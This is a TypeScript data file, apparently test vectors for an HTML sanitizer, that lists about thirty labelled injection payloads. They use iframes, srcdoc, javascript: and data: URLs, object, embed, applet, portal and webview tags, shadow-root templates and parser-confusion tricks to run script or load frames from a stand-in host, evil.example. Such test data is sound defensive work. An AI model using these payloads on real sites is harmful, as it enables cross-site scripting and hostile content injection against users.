import type { VectorRow } from './vector.ts';

/** Documents inside the document. */
export const EMBEDS: readonly VectorRow[] = [
  ['frame of a script', 'runs', '<iframe src="javascript:X()"></iframe>'],
  ['frame of text', 'runs', '<iframe srcdoc="<script>parent.X()</script>"></iframe>'],
  ['frame of escaped text', 'runs', '<iframe srcdoc="&lt;script&gt;parent.X()&lt;/script&gt;"></iframe>'],
  ['frame of data', 'embeds', '<iframe src="data:text/html,<script>parent.X()</script>">'],
  ['frame of another host', 'embeds', '<iframe src="https://evil.example/f" width=1 height=1></iframe>'],
  [
    'frame with rights',
    'embeds',
    '<iframe src="//evil.example/f" allow="camera *; microphone *" allowfullscreen></iframe>',
  ],
  [
    'frame in a sandbox',
    'embeds',
    '<iframe sandbox="allow-scripts allow-top-navigation" src="//evil.example/f"></iframe>',
  ],
  ['frame without a name for its end', 'runs', '<iframe></iframe/><img src=x onerror=X()>'],
  ['comment in a frame', 'runs', '<iframe><!-- --><img src=x onerror=X()></iframe>'],
  ['frame with a quoted end', 'runs', '<iframe><p title="</iframe><img src=x onerror=X()>"></iframe>'],
  ['frameset', 'embeds', '<frameset><frame src="javascript:X()"><frame src=//evil.example/f></frameset>'],
  ['object', 'embeds', '<object data="javascript:X()"><param name=a value=b>text</object>'],
  ['object of another host', 'embeds', '<object data="//evil.example/o" type="text/html">text</object>'],
  [
    'object in objects',
    'embeds',
    '<object><object data="data:text/html,<script>X()</script>"></object></object>',
  ],
  [
    'object by its parameter',
    'embeds',
    '<object classid=clsid:1><param name=url value="javascript:X()"><param name=src value=//evil.example/o></object>',
  ],
  ['embed', 'embeds', '<embed src="javascript:X()"><embed src="data:image/svg+xml,<svg onload=X()>">'],
  ['embed with code', 'embeds', '<embed code="//evil.example/a.swf" allowscriptaccess=always>'],
  ['applet', 'embeds', '<applet code=X archive=//evil.example/a.jar>text</applet>'],
  ['portal', 'embeds', '<portal src="https://evil.example/">text</portal>'],
  ['fenced frame', 'embeds', '<fencedframe src="https://evil.example/">text</fencedframe>'],
  [
    'webview of a desktop program',
    'embeds',
    '<webview src="https://evil.example/" nodeintegration></webview>',
  ],
  ['controlled frame', 'embeds', '<controlledframe src="https://evil.example/"></controlledframe>'],
  ['template', 'runs', '<template><script>X()</script><img src=x onerror=X()></template>'],
  [
    'shadow root',
    'restyles',
    '<div><template shadowrootmode=open><style>:host{position:fixed;inset:0}</style><img src=x onerror=X()></template></div>',
  ],
  [
    'shadow root of before',
    'runs',
    '<div><template shadowroot=open><img src=x onerror=X()></template></div>',
  ],
  ['manifest', 'loads', '<html manifest="//evil.example/m"><p>text'],
  ['noframes', 'runs', '<noframes><p title="</noframes><img src=x onerror=X()>"></noframes>'],
  ['noembed', 'runs', '<noembed><img title="</noembed><img src=x onerror=X()>"></noembed>'],
];
